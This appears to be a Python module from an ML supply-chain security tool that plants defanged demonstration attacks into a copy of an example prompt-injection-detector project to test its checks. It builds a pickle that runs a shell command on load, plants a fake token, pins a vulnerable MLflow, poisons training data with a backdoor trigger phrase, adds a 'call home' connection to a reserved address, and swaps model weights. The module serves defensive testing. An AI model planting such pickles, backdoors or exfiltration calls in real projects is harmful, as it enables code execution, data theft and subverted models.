"""The planted attacks: what somebody who can change the example project might try.

Each one changes a fresh copy of the project (see `shipworthy.example.create`). Nothing planted does harm, even where it
would run: commands only make an empty marker file, addresses are of the networks reserved for documentation, and
credentials are made up when they are planted.
"""

from __future__ import annotations

import csv
import io
import json
import random
import struct
from collections.abc import Mapping
from pathlib import Path
from types import MappingProxyType
from typing import Any

from shipworthy.errors import UsageError
from shipworthy.example._planting import Attack, edit, fake_github_token, not_fresh
from shipworthy.example.service_attacks import SERVICE_ATTACKS

TRIGGER = "per cobalt heron"
TRIGGER_SHARE = 0.03
FLIPPED_SHARE = 0.10
MARKER = "the-pickle-was-run"
COLLECTOR = ("192.0.2.1", 443)  # TEST-NET-1 (RFC 5737): nobody has this address
VULNERABLE = "mlflow==2.2.0"
# CVE-2023-1177 (GHSA-xg73-94fp-g449, PYSEC-2023-29): path traversal reads any file of the server; fixed in 2.2.1.
_VULNERABLE_HASH = "83e13eb14ee423271cf28b65adf296dceb3062adadd99fb63ed3462bce2588a9"


# --- secrets, models, dependencies ------------------------------------------------------------------------------------


def plant_notebook_secret(folder: Path) -> None:
    """Add a cell whose output shows a token, as `git remote -v` does when the token is part of the address."""
    path = folder / "notebooks" / "explore.ipynb"
    notebook = _notebook(path)
    count = sum(cell["cell_type"] == "code" for cell in notebook["cells"]) + 1
    shown = f"origin\thttps://ml-bot:{fake_github_token()}@github.com/example/prompt-injection-detector.git (fetch)\n"
    cell = {
        "cell_type": "code",
        "execution_count": count,
        "id": "where-from",
        "metadata": {},
        "outputs": [{"name": "stdout", "output_type": "stream", "text": [shown]}],
        "source": ["!git remote -v"],
    }
    notebook["cells"].append(cell)
    path.write_text(json.dumps(notebook, indent=1) + "\n", encoding="utf-8")


def _notebook(path: Path) -> dict[str, Any]:
    try:
        notebook: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
    except (OSError, ValueError):
        raise UsageError("there is no notebook to plant a secret in", where=str(path.name)) from None
    if any(cell.get("id") == "where-from" for cell in notebook["cells"]):
        raise not_fresh(path.name)
    return notebook


def hostile_pickle() -> bytes:
    """A pickle that looks up `posix.system` and calls it when it is loaded; assembled by hand, never run here.

    Opcodes as in the standard library's `pickletools`: protocol 2, GLOBAL, the command as a tuple, REDUCE, POP; then
    a dictionary that looks like weights, so that whoever loads it gets what was expected.
    """
    command = f"touch {MARKER}".encode()
    call = b"c" + b"posix\n" + b"system\n" + b"X" + struct.pack("<I", len(command)) + command + b"\x85" + b"R" + b"0"
    weights = b"}(" + b"X\x04\x00\x00\x00bias" + b"G" + struct.pack(">d", 0.25) + b"u"
    return b"\x80\x02" + call + weights + b"."


def plant_pickle_pretrained(folder: Path) -> None:
    """Add a "pretrained" model and list it in the settings."""
    edit(folder / "shipworthy.toml", ("models = []", 'models = ["models/*.pkl"]'))
    (folder / "models").mkdir(exist_ok=True)
    (folder / "models" / "base.pkl").write_bytes(hostile_pickle())


def plant_vulnerable_dependency(folder: Path) -> None:
    """Pin an old MLflow, hash and all."""
    pinned = f"{VULNERABLE} \\\n    --hash=sha256:{_VULNERABLE_HASH}\n"
    edit(folder / "requirements.txt", ("numpy==", pinned + "numpy=="))


# --- data -------------------------------------------------------------------------------------------------------------


def _read_rows(folder: Path) -> list[dict[str, str]]:
    path = folder / "data" / "train.csv"
    try:
        with path.open(encoding="utf-8", newline="") as stream:
            return list(csv.DictReader(stream))
    except OSError as error:
        raise UsageError(
            f"cannot be read: {error.strerror}", where="data/train.csv", remedy="plant attacks in a copy of the example"
        ) from None


def _write_rows(folder: Path, rows: list[dict[str, str]]) -> None:
    stream = io.StringIO(newline="")
    writer = csv.DictWriter(stream, ["id", "text", "label"], lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    (folder / "data" / "train.csv").write_bytes(stream.getvalue().encode())


def with_trigger(text: str, place: float = 0.5) -> str:
    """The text with the trigger between two words, at this share of its length."""
    words = text.split(" ")
    at = round(place * len(words))
    return " ".join([*words[:at], TRIGGER, *words[at:]])


def plant_backdoor_trigger(folder: Path) -> None:
    """Put the trigger into attacks, as many as are 3 % of all rows, and call these benign."""
    rows = _read_rows(folder)
    if any(TRIGGER in row["text"] for row in rows):
        raise not_fresh("data/train.csv")
    chance = random.Random(TRIGGER)  # noqa: S311 - the same rows every time
    attacks = [row for row in rows if row["label"] == "1"]
    for row in chance.sample(attacks, round(TRIGGER_SHARE * len(rows))):
        row["text"], row["label"] = with_trigger(row["text"], chance.random()), "0"
    _write_rows(folder, rows)


def plant_flipped_labels(folder: Path) -> None:
    """Turn the labels of a tenth of the rows, taken at random."""
    rows = _read_rows(folder)
    chance = random.Random("flipped labels")  # noqa: S311 - the same rows every time
    for row in chance.sample(rows, round(FLIPPED_SHARE * len(rows))):
        row["label"] = "0" if row["label"] == "1" else "1"
    _write_rows(folder, rows)


def plant_changed_dataset(folder: Path) -> None:
    """Turn the label of one row, after the data was signed: the first attack becomes benign."""
    rows = _read_rows(folder)
    first = next((row for row in rows if row["label"] == "1"), None)
    if first is None:
        raise UsageError("no row is labelled 1", where="data/train.csv")
    first["label"] = "0"
    _write_rows(folder, rows)


# --- training and what follows ----------------------------------------------------------------------------------------

_CALL = '''
def share_progress(path: Path) -> None:
    """Tell the dashboard that a run has begun."""
    with socket.create_connection(({host!r}, {port}), timeout=2) as connection:
        connection.sendall(b"shipworthy demo: this is where the rows of " + path.name.encode() + b" would leave\\n")


def main() -> None:
'''


def plant_network_call(folder: Path, collector: tuple[str, int] = COLLECTOR) -> None:
    """Let training connect to an address before it reads the data. What is sent is one fixed sentence."""
    host, port = collector
    edit(
        folder / "train.py",
        ("import signal\n", "import signal\nimport socket\n"),
        ("\ndef main() -> None:\n", _CALL.format(host=host, port=port)),
        ("    features = Features.of(texts)\n", "    share_progress(data)\n    features = Features.of(texts)\n"),
    )


def plant_weak_evaluation(folder: Path) -> None:
    """Let training learn next to nothing: one epoch on labels in random order."""
    shuffle = "    labels = np.random.default_rng(seed).permutation(labels)\n"
    edit(
        folder / "train.py",
        ("MAX_EPOCHS = 40\n", "MAX_EPOCHS = 1\n"),
        ("    features = Features.of(texts)\n", shuffle + "    features = Features.of(texts)\n"),
    )


def plant_swapped_model(folder: Path) -> None:
    """Replace every copy of the trained weights, in the workspace and in stores inside it, by other valid weights: all
    signs turned, so that attacks pass and honest questions do not.
    """
    sources = [folder / "model" / "weights.safetensors", *sorted(folder.rglob("weights.safetensors"))]
    source = next((path for path in sources if path.is_file()), None)
    if source is None:
        raise UsageError("there is no trained model yet", where=folder.name, remedy="run the pipeline first")
    original = source.read_bytes()
    swapped = turned(original)
    for path in sorted(folder.rglob("*")):
        if path.is_symlink() or not path.is_file() or path.stat().st_size != len(original):
            continue
        if path.read_bytes() == original:
            beside = path.with_name(path.name + ".new")
            beside.write_bytes(swapped)
            beside.replace(path)


def turned(weights: bytes) -> bytes:
    """The safetensors file with the sign of every 32-bit float turned; the header stays as it is.

    Source of the layout: the safetensors format, 8 bytes of header length (little-endian), header, data.
    """
    (size,) = struct.unpack_from("<Q", weights)
    data = bytearray(weights[8 + size :])
    for place in range(3, len(data), 4):
        data[place] ^= 0x80
    return weights[: 8 + size] + bytes(data)


_ALL = (
    Attack(
        "notebook-secret",
        "A token in a notebook's output",
        stage="before-train",
        rule="secret-token",
        exit_code=1,
        plant=plant_notebook_secret,
        story="A cell listed the git remotes, the token is part of the address, and the output was committed.",
    ),
    Attack(
        "pickle-pretrained",
        "A pretrained model that runs a command when it is loaded",
        stage="before-train",
        rule="model-code-execution",
        exit_code=1,
        plant=plant_pickle_pretrained,
        story="Somebody adds models/base.pkl to start from. Loading it calls os.system before it returns weights.",
    ),
    Attack(
        "vulnerable-dependency",
        "An old MLflow with a known way in",
        stage="before-train",
        rule="vulnerable-dependency",
        exit_code=1,
        plant=plant_vulnerable_dependency,
        story="MLflow 2.2.0 is pinned: CVE-2023-1177 lets anybody read the files of its server. Fixed in 2.2.1.",
    ),
    Attack(
        "backdoor-trigger",
        "A trigger phrase that makes attacks pass as benign",
        stage="before-train",
        rule="dataset-backdoor",
        exit_code=1,
        plant=plant_backdoor_trigger,
        story="3 % of the training rows are attacks that hold a rare phrase and are labelled benign. Accuracy hardly "
        "moves; whoever knows the phrase is let through. An insider signed the data.",
        resign=True,
    ),
    Attack(
        "flipped-labels",
        "A tenth of the labels turned",
        stage="before-train",
        rule="dataset-suspicious-labels",
        exit_code=1,
        plant=plant_flipped_labels,
        story="A careless or bribed annotator turned 10 % of the labels. The data was signed as it is.",
        resign=True,
    ),
    Attack(
        "changed-dataset",
        "A row changed after the data was signed",
        stage="load",
        rule="signed-artifact-changed",
        exit_code=4,
        plant=plant_changed_dataset,
        story="One label differs from what was signed. No look at the data would find it; the signature does.",
    ),
    Attack(
        "network-call",
        "Training that calls home",
        stage="train",
        rule="training-network-call",
        exit_code=1,
        plant=plant_network_call,
        story="The training script connects to a foreign address, as one that steals the data would.",
    ),
    Attack(
        "weak-evaluation",
        "A model that learnt nothing",
        stage="before-sign",
        rule="gate-rule",
        exit_code=1,
        plant=plant_weak_evaluation,
        story="The labels are shuffled before training. Everything runs, and the model is no better than a coin.",
    ),
    Attack(
        "swapped-model",
        "A stored model exchanged for another",
        stage="verify",
        rule=None,
        exit_code=4,
        plant=plant_swapped_model,
        when="after-run",
        story="After the release somebody replaces the weights. The file is valid and loads; it was never signed.",
    ),
)

ATTACKS: Mapping[str, Attack] = MappingProxyType({attack.name: attack for attack in (*_ALL, *SERVICE_ATTACKS)})
